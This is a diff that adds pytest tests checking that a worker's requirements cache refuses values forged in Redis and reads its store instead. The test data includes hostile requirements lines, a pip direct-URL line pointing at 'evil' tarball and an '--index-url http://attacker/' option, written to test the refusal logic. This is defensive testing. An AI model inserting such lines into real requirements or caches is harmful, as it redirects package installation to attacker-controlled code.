@@ -9,6 +9,7 @@ import pytest
 import redis
 
 from src.core import requirements_cache as rc
+from src.core.metrics_store import CACHE_REFUSALS, counter_key
 from src.foundation.hashing import sha256_hex
 from src.foundation.local_redis import LocalRedis
 from src.foundation.redis_client import close_clients
@@ -97,3 +98,43 @@ def test_worker_read_creates_no_store_when_there_is_none(
     assert rc.get_requirements_sync("w-nostore") is None
     assert not (isolated_settings / "bifrost.db").exists()
     assert not isolated_settings.exists()
+
+
+# --- an attacker who reached Redis ---------------------------------------------------
+
+FORGED_LINE = "evil @ file:///dev/shm/evil-1.0.tar.gz\n"
+
+
+@pytest.mark.parametrize("forged", [
+    pytest.param({"content": FORGED_LINE, "hash": sha256_hex(FORGED_LINE)}, id="a URL line"),
+    pytest.param({"content": "--index-url http://attacker/\nalpha==1.0\n",
+                  "hash": sha256_hex("--index-url http://attacker/\nalpha==1.0\n")},
+                 id="an installer option"),
+    pytest.param({"content": ["alpha==1.0"], "hash": "x"}, id="content not a string"),
+    pytest.param("not json", id="not JSON"),
+])
+def test_a_worker_refuses_requirements_the_api_would_refuse_and_reads_the_store(
+    system: str, redis_client: redis.Redis, forged: object, caplog: pytest.LogCaptureFixture
+) -> None:
+    saved = rc.save_requirements_sync(CONTENT)
+    redis_client.set(rc.REQUIREMENTS_KEY, forged if isinstance(forged, str) else json.dumps(forged))
+    caplog.set_level("WARNING")
+    assert rc.get_requirements_sync("w-victim") == saved
+    assert "[w-victim] Invalid" in caplog.text and "not used: reading the store" in caplog.text
+    # The store's value is back in Redis, and the refusal is counted for /metrics.
+    assert json.loads(redis_client.get(rc.REQUIREMENTS_KEY) or "") == saved
+    refusals = redis_client.hgetall(counter_key(CACHE_REFUSALS))
+    assert sum(int(v) for v in refusals.values()) == 1, refusals
+
+
+def test_a_hash_that_is_not_the_contents_is_never_used(
+    system: str, redis_client: redis.Redis, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A value is taken under the sha256 of its content, whatever hash it gives:
+    it cannot pass for another hash's environment or lock."""
+    other = "gamma==3\n"
+    redis_client.set(rc.REQUIREMENTS_KEY,
+                     json.dumps({"content": other, "hash": sha256_hex(CONTENT)}))
+    caplog.set_level("WARNING")
+    assert rc.get_requirements_sync("w-victim") == {"content": other, "hash": sha256_hex(other)}
+    assert f"the hash {sha256_hex(CONTENT)[:12]} is not the sha256 of the content" in caplog.text
